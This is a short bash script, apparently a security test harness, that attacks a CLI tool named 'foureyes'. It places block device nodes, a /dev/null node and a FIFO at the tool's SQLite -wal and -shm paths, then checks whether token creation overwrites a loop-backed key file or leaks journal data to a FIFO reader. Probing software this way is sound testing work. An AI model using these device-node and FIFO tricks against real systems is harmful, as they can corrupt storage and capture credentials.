#!/bin/bash
# plant device nodes / FIFO at -wal / -shm
FE=/work/attack37/foureyes
T=/tmp/attack37/dev; rm -rf $T; mkdir -p $T/keys
prep(){ rm -rf $T/d; mkdir -p $T/d; $FE --db $T/d/t.db token create --name admin0 --role admin >/dev/null 2>&1; }
door(){ $FE --db $T/d/t.db token create --name n$RANDOM --role agent >$T/o 2>&1; echo "  rc=$? $(tail -c 300 $T/o | tr '\n' ' ')"; }
head -c 1048576 /dev/urandom > $T/keys/blk; h=$(sha256sum < $T/keys/blk)
LOOP=$(losetup -f --show $T/keys/blk) || { echo no loop; exit; }
echo "loop=$LOOP"; read MA MI < <(stat -c '%t %T' $LOOP); MA=$((16#$MA)); MI=$((16#$MI))
for comp in wal shm; do
  echo "== block device node (loop over key file) at t.db-$comp"; prep; rm -f $T/d/t.db-$comp; mknod $T/d/t.db-$comp b $MA $MI; door
  sync; blockdev --flushbufs $LOOP 2>/dev/null
  [ "$(sha256sum < $T/keys/blk)" = "$h" ] && echo "  key intact" || { echo "  KEY CHANGED"; cmp -l <(head -c 1048576 $LOOP) /dev/null 2>/dev/null | head -0; }
  cmp $T/keys/blk <(cat $LOOP) >/dev/null && echo "  loop==file"
  xxd $LOOP | head -2
  head -c 1048576 /dev/urandom > $T/keys/blk.new; h=$(sha256sum < $T/keys/blk.new); dd if=$T/keys/blk.new of=$LOOP bs=1M conv=fsync status=none; sync
done
losetup -d $LOOP
echo "== /dev/null char node at t.db-wal"; prep; rm -f $T/d/t.db-wal; mknod $T/d/t.db-wal c 1 3; door; door; ls -la $T/d
echo "== FIFO at t.db-wal with a reader"; prep; rm -f $T/d/t.db-wal; mkfifo $T/d/t.db-wal; (timeout 8 cat $T/d/t.db-wal > $T/fifo.out) & sleep 0.3; door; sleep 1; echo "  reader got $(stat -c %s $T/fifo.out) B; strings: $(strings $T/fifo.out | head -5 | tr '\n' '|' | cut -c1-200)"; wait
